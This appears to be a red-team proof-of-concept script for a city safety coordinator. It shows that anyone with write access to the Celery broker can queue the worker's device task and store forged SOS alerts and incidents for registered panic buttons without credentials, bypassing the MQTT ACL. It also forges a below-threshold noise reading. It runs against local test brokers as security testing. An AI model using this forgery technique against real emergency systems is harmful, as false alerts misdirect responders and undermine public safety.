"""Forged SOS incidents through the Celery broker: the worker's ``device_message`` task
(``coordinator.worker.DEVICE_TASK``) is meant to be queued only by the worker's own MQTT
listener, after the MQTT broker's ACL let a device write its own topic. But the task is taken
from the events queue like any node's message, and it carries only a topic and a payload, no
signature. Anyone who can write to the Celery broker (Redis or the embedded SQLite broker: a
camera site's network, one rogue node; the broker is "not trusted with content") queues
``(city/devices/<any registered button>/sos, {"time": ...})`` and the worker stores an SOS
alert and a high-severity incident at that button, with its actions planned. The MQTT ACL,
which SECURITY.md names as what stops anyone speaking as another device, is bypassed.

A real ``safecity coordinator worker`` process, a real mosquitto broker (the worker's own MQTT
connection, as deployed), the embedded broker for Celery. The attacker holds no device password
and no node key: only ``send_task`` on the Celery broker.

Run: PYTHONPATH=$PWD /work/main/.venv/bin/python redteam/device_task_forged_sos.py
Exit 1 = forged alerts were stored; 0 = none.
"""

from __future__ import annotations

import json
import os
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

from celery import Celery
from sqlalchemy import func, select

from contract.tasks import EVENTS_QUEUE
from coordinator.db import Alert, Incident
from coordinator.worker import DEVICE_TASK
from tests.support.mosquitto import PASSWORD, Broker
from tests.support.world import World, embedded_world

FORGED = 20
IOT = {"devices": [
    {"id": "sos-1", "kind": "sos_button", "latitude": 52.5201, "longitude": 13.4049,
     "site": "site-a"},
    {"id": "sos-2", "kind": "sos_button", "latitude": 52.5301, "longitude": 13.4149,
     "site": "site-b"},
    {"id": "noise-3", "kind": "noise", "threshold": 85.0, "latitude": 52.5210,
     "longitude": 13.4100, "site": "site-a"}]}


def counts(world: World) -> tuple[int, int]:
    with world.svc.session() as session:
        alerts = session.scalar(select(func.count()).select_from(Alert)
                                .where(Alert.device_id.is_not(None)))
        incidents = session.scalar(select(func.count()).select_from(Incident))
    return int(alerts or 0), int(incidents or 0)


def main() -> int:
    root = Path(tempfile.mkdtemp(prefix="rt-device-task-"))
    mosquitto = Broker(root / "mosquitto")
    mosquitto.start()
    os.environ["SAFECITY_COORDINATOR_MQTT__PASSWORD"] = PASSWORD
    mqtt = mosquitto.settings(client_id="coordinator-worker-devices")
    world = embedded_world(root / "city", options={"mqtt": mqtt, "iot": IOT})
    try:
        table = "".join(f"{name} = {json.dumps(mqtt[name])}\n"
                        for name in ("host", "port", "ca_file", "username", "client_id",
                                     "topic_prefix"))
        devices = "".join("[[iot.devices]]\n" + "".join(
            f"{k} = {json.dumps(v)}\n" for k, v in d.items()) for d in IOT["devices"])
        world.start_coordinator_worker("[mqtt]\n" + table + "[iot]\n" + devices)
        before_log = world.svc.audit.size()
        attacker = Celery("anyone-on-the-broker", broker=world.broker)
        now = datetime.now(UTC)
        for i in range(FORGED):
            device = IOT["devices"][i % 2]["id"]
            # dated in the past at will (only the future is bounded), one incident window
            # apart: each press opens an incident of its own
            pressed = (now - timedelta(seconds=121 * (FORGED - i))).isoformat()
            attacker.send_task(DEVICE_TASK, args=[f"city/devices/{device}/sos",
                                                  json.dumps({"time": pressed})],
                               queue=EVENTS_QUEUE)
        # a quiet reading, under the sensor's threshold: the listener's crossing check is
        # skipped on this path, so it raises a noise incident all the same
        attacker.send_task(DEVICE_TASK, args=["city/devices/noise-3/reading",
                                              json.dumps({"time": now.isoformat(), "value": 1})],
                           queue=EVENTS_QUEUE)
        deadline, alerts, incidents = time.monotonic() + 120, 0, 0
        while time.monotonic() < deadline and alerts < FORGED + 1:
            time.sleep(1)
            alerts, incidents = counts(world)
        grown = world.svc.audit.size() - before_log
        print(f"{FORGED} DEVICE_TASK messages put on {EVENTS_QUEUE} by a broker writer (no "
              f"device password, no node key) + 1 reading of 1 dB under an 85 dB threshold -> "
              f"{alerts} device alerts and {incidents} incidents stored at sos-1, sos-2 and "
              f"noise-3 (audit entries: {grown})")
    finally:
        world.close()
        mosquitto.stop()
    return 1 if alerts else 0


if __name__ == "__main__":
    sys.exit(main())
